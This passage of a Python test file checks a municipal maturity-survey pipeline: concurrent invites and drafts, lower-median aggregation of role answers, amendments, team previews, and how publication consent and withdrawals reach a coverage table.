        written = [p for f in futures for p in f.result(timeout=180)]
    assert len(written) == len(set(written)) == 50

    expected = {r: {e: str(v) for e, v in a.items()} for r, a in plan.items()}
    check_records(store, "2025", expected)
    for link in links:  # no draft lost, and the newer (the draft, by a second) shows
        access = store.open_link(link.token, now=T)
        saved = json.loads(draft_path(store, access).read_text(encoding="utf-8"))
        assert {e: a["level"] for e, a in saved["answers"].items()} == drafts[link.respondent_id]
        shown = load_draft(store, access, fw.element_ids)
        assert {e: a.level for e, a in shown.sheet.answers.items()} == drafts[link.respondent_id]

    rows = submissions(store, "2025")
    result = ingest_and_build(tmp_path, fw, 50, 2)
    levels = mart(result, "levels").set_index(["municipality_id", "element_id"])
    assert len(levels) == 20
    for k, mid in enumerate(mids):
        known = sorted((k + j) % 5 for j in range(4))  # the fifth role does not know
        sec = levels.loc[(mid, "SEC-01")]
        assert (sec.level, sec.n_respondents, sec.n_known) == (known[1], 5, 4)
        assert levels.loc[(mid, "STR-04")].level == 2  # lower median of 0, 1, 2, 3, 4
        team = team_table(rows[rows["municipality_id"] == mid], fw.element_ids).set_index("element_id")
        assert team.loc["SEC-01", "level"] == sec.level == lower_median(known)
    cov = mart(result, "coverage").set_index("municipality_id")
    assert sorted(cov.index) == mids and (cov["n_respondents"] == 5).all()
    assert set(cov["roles"]) == {", ".join(sorted(ROLES5))}


def test_concurrent_invites_keep_every_link(tmp_path):
    store = SurveyStore(tmp_path)
    make_wave(store)
    mids = nl_ids(16)
    barrier = threading.Barrier(16)

    def invite(mid):
        barrier.wait(timeout=60)
        return SurveyStore(tmp_path).invite("2025", [mid], ["cio"], now=T)[0]

    with ThreadPoolExecutor(16) as pool:
        links = list(pool.map(invite, mids))
    assert sorted(i.municipality_id for i in store.active_invitations("2025")) == mids
    assert all(store.open_link(lk.token, now=T).invitation.municipality_id == lk.municipality_id
               for lk in links)


# ------------------------------------------------------------------ back into the build

TEAM_WAVE = "2025-team-preview"
TEAM_MID = "NL_GM0518"
TEAM_LEVELS = {  # element -> level per role (cio, ciso, dpo)
    "SEC-02": [1, 3, 4],      # lower median 3, spread 3: disagreement
    "DAT-03": ["dk", 2, 2],   # 2, spread 0
    "STR-03": [0, "dk", "dk"],  # 0 from one known level
    "PPL-02": ["dk", "dk", "dk"],  # nobody knows: no level
}
AMEND_MID, CONSENT = "NL_GM0772", {"NL_GM0014": True, "NL_GM0034": False, "NL_GM0037": None}
DISAGREE_MID, WITHDRAW_MID = "NL_GM0153", "NL_GM0200"  # cio yes + ciso no; yes, then no


@pytest.fixture(scope="module")
def published(tmp_path_factory, fw):
    """One data folder, two waves: a team of three, an amended answer, three consent choices."""
    from pipelines.build import build
    from pipelines.survey.pending import ingest_pending

    data = tmp_path_factory.mktemp("survey-published")
    store = SurveyStore(data)
    make_wave(store, "2025")
    make_wave(store, TEAM_WAVE)

    team = store.invite(TEAM_WAVE, [TEAM_MID], ["cio", "ciso", "dpo"], now=T - DAY)
    for j, link in enumerate(team):
        answers = {e: levels[j] for e, levels in TEAM_LEVELS.items()}
        submit(store, store.open_link(link.token, now=T), sheet(fw, answers), fw.element_ids,
               now=T + j * HOUR)

    (amend,) = store.invite("2025", [AMEND_MID], now=T - DAY)
    access = store.open_link(amend.token, now=T)
    submit(store, access, sheet(fw, {"STR-01": 1, "SEC-01": 2}, consent=False), fw.element_ids, now=T)
    submit(store, access, sheet(fw, {"STR-01": 4, "SEC-01": 2}, consent=True), fw.element_ids,
           now=T + DAY)

    for link in store.invite("2025", list(CONSENT), now=T - DAY):
        submit(store, store.open_link(link.token, now=T), sheet(fw, {"GOV-01": 2},
                                                                CONSENT[link.municipality_id]),
               fw.element_ids, now=T + 2 * HOUR)

    cio, ciso = store.invite("2025", [DISAGREE_MID], ["cio", "ciso"], now=T - DAY)
    for link, choice in ((cio, True), (ciso, False)):
        submit(store, store.open_link(link.token, now=T), sheet(fw, {"GOV-01": 2}, choice),
               fw.element_ids, now=T + 3 * HOUR)
    (w,) = store.invite("2025", [WITHDRAW_MID], now=T - DAY)
    for hours, choice in ((3, True), (5, False)):
        submit(store, store.open_link(w.token, now=T), sheet(fw, {"GOV-01": 2}, choice),
               fw.element_ids, now=T + hours * HOUR)

    rows = submissions(store, "2025"), submissions(store, TEAM_WAVE)
    paths = DataPaths(data)
    reports = ingest_pending(paths, framework=fw)
    assert len(reports) == 12 and all(r.ok for r in reports)
    result = build(data, framework=fw)
    return SimpleNamespace(store=store, result=result, main=rows[0], team=rows[1], amend=amend)


def test_amendment_the_later_level_wins(published, fw):
    store, result = published.store, published.result
    assert len(record_files(store, "2025")) == 2 + 3 + 2 + 2
    levels = mart(result, "levels").set_index(["municipality_id", "wave", "element_id"])
    sto = levels.loc[(AMEND_MID, "2025", "STR-01")]
    assert (sto.level, sto.n_respondents, sto.level_min, sto.level_max) == (4, 1, 4, 4)
    assert levels.loc[(AMEND_MID, "2025", "SEC-01")].level == 2
    cov = mart(result, "coverage").set_index("municipality_id")
    assert cov.loc[AMEND_MID, "n_respondents"] == 1
    assert bool(cov.loc[AMEND_MID, "publish_consent"]) is True  # the later choice counts
    assert pd.Timestamp(cov.loc[AMEND_MID, "last_submitted"]) == pd.Timestamp(T + DAY)
    # the page's own view agrees: the latest record, and the team preview
    access = store.open_link(published.amend.token, now=T + DAY)
    assert load_draft(store, access, fw.element_ids).sheet.answers["STR-01"].level == 4
    mine = published.main[published.main["municipality_id"] == AMEND_MID]
    assert team_table(mine, fw.element_ids).set_index("element_id").loc["STR-01", "level"] == 4


def test_team_preview_agrees_with_the_build(published, fw):
    rows = published.team[published.team["municipality_id"] == TEAM_MID]
    team = team_table(rows, fw.element_ids).set_index("element_id")
    assert team.index.tolist() == ["STR-03", "DAT-03", "SEC-02", "PPL-02"]  # framework order
    sec = team.loc["SEC-02"]
    assert (sec["cio"], sec["ciso"], sec["dpo"]) == ("1", "3", "4")
    assert (sec["level"], sec["spread"], bool(sec["disagree"])) == (3, 3, True)

    levels = mart(published.result, "levels")
    mine = levels[(levels["municipality_id"] == TEAM_MID) & (levels["wave"] == TEAM_WAVE)]
    mine = mine.set_index("element_id")
    assert sorted(mine.index) == sorted(TEAM_LEVELS)
    built = mine.loc["SEC-02"]
    assert (built.level, built.spread, bool(built.disagree), built.n_respondents) == (3, 3, True, 3)
    for element in TEAM_LEVELS:
        t, b = team.loc[element], mine.loc[element]
        assert (pd.isna(t["level"]) and pd.isna(b.level)) or t["level"] == b.level, element
        assert (pd.isna(t["spread"]) and pd.isna(b.spread)) or t["spread"] == b.spread, element
        assert bool(t["disagree"]) == bool(b.disagree), element
    assert (mine.loc["DAT-03", "level"], mine.loc["DAT-03", "n_known"]) == (2, 2)
    assert (mine.loc["STR-03", "level"], mine.loc["STR-03", "n_known"]) == (0, 1)
    assert pd.isna(mine.loc["PPL-02", "level"]) and mine.loc["PPL-02", "n_known"] == 0
    # the team's wave does not leak into the other wave
    assert not ((levels["municipality_id"] == TEAM_MID) & (levels["wave"] == "2025")).any()


def test_consent_reaches_the_coverage_mart(published):
    cov = mart(published.result, "coverage").set_index("municipality_id")
    for mid, consent in CONSENT.items():
        assert bool(cov.loc[mid, "publish_consent"]) is (consent is True), mid
    assert bool(cov.loc[TEAM_MID, "publish_consent"]) is False  # never stated
    assert bool(cov.loc[DISAGREE_MID, "publish_consent"]) is False  # one yes cannot publish a no
    assert bool(cov.loc[WITHDRAW_MID, "publish_consent"]) is False  # a withdrawal holds


def test_the_team_sees_the_decision_the_build_takes(published):
    cov = mart(published.result, "coverage").set_index("municipality_id")
    rows = published.main
    for mid in (*CONSENT, DISAGREE_MID, WITHDRAW_MID, AMEND_MID):
        decision = consent_decision(rows[rows["municipality_id"] == mid])
        assert decision.consents is bool(cov.loc[mid, "publish_consent"]), mid
    disagree = consent_decision(rows[rows["municipality_id"] == DISAGREE_MID])
    assert (disagree.state, disagree.choices) == ("disagree", {"cio": True, "ciso": False})
    assert consent_decision(rows[rows["municipality_id"] == "NL_GM0037"]).state == "unset"
